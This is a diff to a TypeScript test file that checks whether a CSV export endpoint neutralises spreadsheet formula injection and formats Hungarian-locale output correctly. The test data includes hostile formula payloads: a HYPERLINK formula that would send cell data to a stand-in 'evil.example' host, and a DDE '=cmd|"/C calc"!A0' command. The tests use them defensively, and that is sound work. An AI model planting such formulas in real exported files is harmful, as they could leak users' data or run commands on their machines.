@@ -1,38 +1,11 @@
 import { parse } from 'csv-parse/sync';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildGroupsTestApp, call, createGroup, joinByLink, ok } from '../../test/groups';
+import { buildGroupsTestApp, call, createGroup, ok } from '../../test/groups';
 import { createUser, type IdentityTestApp, type TestUser } from '../../test/identity';
 import { createOffer } from '../../test/market';
 import { placeOrder } from '../../test/orders';
 import { neutraliseFormula } from './csv-cell';
-
-let t: IdentityTestApp;
-let dealer: TestUser;
-let groupId: string;
-
-beforeAll(async () => {
-  t = await buildGroupsTestApp();
-  dealer = await createUser(t, { username: 'dealer', name: 'Dénes Dealer' });
-  groupId = (await createGroup(t, dealer, { name: 'Kert utca' })).id;
-});
-afterAll(async () => {
-  await t.close();
-});
-
-async function buyer(username: string, name: string): Promise<TestUser> {
-  const user = await createUser(t, { username, name: 'Placeholder' });
-  await joinByLink(t, dealer, groupId, user);
-  // Tab and CR cannot come through the API (names are trimmed); an old row or import could.
-  await t.database.db.execute(sql`update users set name = ${name} where username = ${username}`);
-  return user;
-}
-
-async function readCsv(offerId: string) {
-  const response = await call(t, dealer, 'GET', `/api/Sale/${offerId}/Csv`);
-  expect(response.statusCode).toBe(200);
-  return { text: response.rawPayload.toString('utf8'), headers: response.headers };
-}
 
 const dangerous = [
   '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -43,22 +16,51 @@ const dangerous = [
   '\r=1+1',
 ];
 
+let t: IdentityTestApp;
+let dealer: TestUser;
+let groupId: string;
+/** One buyer per dangerous name; the first one's username starts with `-` too. */
+let buyers: TestUser[];
+
+/** Names a buyer directly: tab and CR cannot come through the API (names are trimmed). */
+async function rename(user: TestUser, name: string): Promise<void> {
+  await t.database.db.execute(sql`update users set name = ${name} where id = ${user.id}`);
+}
+
+beforeAll(async () => {
+  t = await buildGroupsTestApp();
+  dealer = await createUser(t, { username: 'dealer', name: 'Dénes Dealer' });
+  buyers = [];
+  for (const index of dangerous.keys()) {
+    buyers.push(await createUser(t, { username: index === 0 ? '-rf' : `buyer${index}` }));
+  }
+  groupId = (await createGroup(t, dealer, { name: 'Kert utca', members: buyers })).id;
+});
+afterAll(async () => {
+  await t.close();
+});
+
+async function readCsv(offerId: string) {
+  const response = await call(t, dealer, 'GET', `/api/Sale/${offerId}/Csv`);
+  expect(response.statusCode).toBe(200);
+  return { text: response.rawPayload.toString('utf8'), headers: response.headers };
+}
+
 describe('GET /api/Sale/{id}/Csv against formula injection (#22.2)', () => {
   it('prefixes every cell and the file name that a spreadsheet would run with a quote', async () => {
     const offer = await createOffer(t, dealer, groupId, {
       product: { name: '=cmd|"/C calc"!A0', unit: 1, measure: 'kg' },
     });
     for (const [index, name] of dangerous.entries()) {
-      await placeOrder(t, await buyer(`buyer${index}`, name), offer.id, 1);
+      const buyer = buyers[index]!;
+      await rename(buyer, name);
+      await placeOrder(t, buyer, offer.id, 1);
     }
-    await placeOrder(t, await buyer('-rf', 'Plain Anna'), offer.id, 1);
     const { text, headers } = await readCsv(offer.id);
     const [header, ...rows]: string[][] = parse(text, { bom: true });
     expect(header?.[0]).toBe('Buyer');
-    expect(rows.map((row) => row[0]).sort()).toEqual(
-      [...dangerous.map((name) => `'${name}`), 'Plain Anna'].sort(),
-    );
-    expect(rows.find((row) => row[0] === 'Plain Anna')?.[1]).toBe("'-rf");
+    expect(rows.map((row) => row[0]).sort()).toEqual(dangerous.map((name) => `'${name}`).sort());
+    expect(rows.find((row) => row[0] === `'${dangerous[0]}`)?.[1]).toBe("'-rf");
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(headers['content-disposition']).toContain(`filename="'=cmd|/C calc!A0 `);
     expect(headers['content-disposition']).toContain(
@@ -80,9 +82,8 @@ describe('GET /api/Sale/{id}/Csv for Hungarian spreadsheets (#23.7)', () => {
       price: 200,
       product: { name: 'Tojás', unit: 10, measure: 'pcs' },
     });
-    const anna = await buyer('anna', 'Anna, Kis');
-    const bela = await buyer('bela', 'Béla');
-    const carol = await buyer('carol', 'Carol');
+    const [anna, bela, carol] = buyers as [TestUser, TestUser, TestUser];
+    await rename(anna, 'Anna, Kis');
     await placeOrder(t, anna, offer.id, 2);
     for (const rejected of [bela, carol]) {
       const order = await placeOrder(t, rejected, offer.id, 1);
@@ -93,7 +94,7 @@ describe('GET /api/Sale/{id}/Csv for Hungarian spreadsheets (#23.7)', () => {
     expect(english.text.split('\r\n')[0]).toContain('Buyer,Username,');
     expect(parse(english.text, { bom: true })).toEqual([
       expect.arrayContaining(['Buyer', 'Order unit']),
-      ['Anna, Kis', 'anna', '2', '10 pcs', '400', 'no', expect.any(String)],
+      ['Anna, Kis', "'-rf", '2', '10 pcs', '400', 'no', expect.any(String)],
       ['2 rejected orders are left out of this list.', '', '', '', '', '', ''],
     ]);
 
@@ -102,7 +103,7 @@ describe('GET /api/Sale/{id}/Csv for Hungarian spreadsheets (#23.7)', () => {
     expect(hungarian.text.split('\r\n')[0]).toContain('Vevő;Felhasználónév;');
     expect(parse(hungarian.text, { bom: true, delimiter: ';' })).toEqual([
       expect.arrayContaining(['Vevő', 'Rendelési egység']),
-      ['Anna, Kis', 'anna', '2', '10 db', '400', 'nem', expect.any(String)],
+      ['Anna, Kis', "'-rf", '2', '10 db', '400', 'nem', expect.any(String)],
       ['2 elutasított rendelés nincs benne ebben a listában.', '', '', '', '', '', ''],
     ]);
     await ok(t, dealer, 'PATCH', '/api/User', { language: 'en' });
@@ -112,7 +113,7 @@ describe('GET /api/Sale/{id}/Csv for Hungarian spreadsheets (#23.7)', () => {
     const offer = await createOffer(t, dealer, groupId, {
       product: { name: 'Méz', unit: 1, measure: 'jar' },
     });
-    await placeOrder(t, await buyer('dora', 'Dóra'), offer.id, 1);
+    await placeOrder(t, buyers[3]!, offer.id, 1);
     const rows: string[][] = parse((await readCsv(offer.id)).text, { bom: true });
     expect(rows).toHaveLength(2);
     expect(rows[1]?.[3]).toBe('1 jar');
